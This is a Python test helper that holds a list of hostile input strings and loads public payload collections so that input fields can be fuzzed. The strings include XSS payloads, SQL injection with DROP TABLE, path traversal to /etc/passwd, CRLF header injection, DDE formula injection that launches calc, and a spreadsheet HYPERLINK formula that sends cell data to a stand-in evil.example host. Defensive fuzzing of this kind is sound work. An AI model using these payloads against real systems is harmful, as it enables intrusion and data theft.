"""Hostile strings: a few of our own, and the public lists where they lie beside the checkout."""

import json
import random
import re
from collections.abc import Iterator, Sequence
from pathlib import Path

OWN = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "</textarea><svg/onload=alert(1)>",
    "</title><h1>别处</h1>",
    "</script><script>alert(1)</script>",
    "]]></summary><entry/>",
    "<!--#exec cmd=ls--><!-- -->",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '<a href="https://evil.example/">点这里</a>',
    "<style>*{display:none}</style>",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7 * 7 %>",
    "%s %(name)s %n {0} {name}",
    '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "' OR '1'='1' --",
    "1; DROP TABLE resource; --",
    "../../../../etc/passwd",
    "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
    "BEGIN:VEVENT\nATTACH:https://evil.example/\nEND:VEVENT",
    "空\x00字\x0b符\x1b[2J",
    "\u202e反着写\u2066\u200b\ufeff\u2028\ufffe",
    "Z̷̢͇a̵͎l̶͓g̸o",
    "👩‍👩‍👧‍👦🏳️‍🌈" * 5,
    "ＡＢＣ①㈱ﷺ",
    "\\\\evil.example\\share\\",
    "null",
    "NaN",
    "-1e309",
    "0" * 60,
)
FOLDER = Path("security")
XSS = FOLDER / "PayloadsAllTheThings" / "xss"
LONGEST = 400
"""What is longer is refused for its length by almost every field, so it would show nothing."""


def listed(shared: Path) -> list[str]:
    """Every string of the public lists once: XSS, formulas in CSV, the Big List of Naughty Strings."""
    found: list[str] = []
    for file in sorted((shared / XSS).glob("*.txt")):
        found += file.read_text("utf-8", "replace").splitlines()
    vectors = (shared / FOLDER / "h5sc" / "vectors.txt").read_text("utf-8", "replace")
    found += re.split(r'(?=<div id="\d+">)', vectors)
    found += json.loads((shared / FOLDER / "blns" / "blns.json").read_text("utf-8"))
    found += _of_markdown(shared / FOLDER / "PayloadsAllTheThings" / "csv-injection" / "README.md")
    return [text for text in dict.fromkeys(found) if text.strip() and len(text) <= LONGEST]


def _of_markdown(file: Path) -> list[str]:
    """The lines of the fenced blocks of a page."""
    blocks = re.findall(r"```\w*\n(.*?)```", file.read_text("utf-8", "replace"), re.DOTALL)
    return [line for block in blocks for line in block.splitlines()]


def sample(strings: Sequence[str], number: int) -> list[str]:
    """The same ones each time."""
    return random.Random(1).sample(strings, min(number, len(strings)))


def round_and_round(strings: Sequence[str]) -> Iterator[str]:
    """One after the other, without end."""
    while True:
        yield from strings
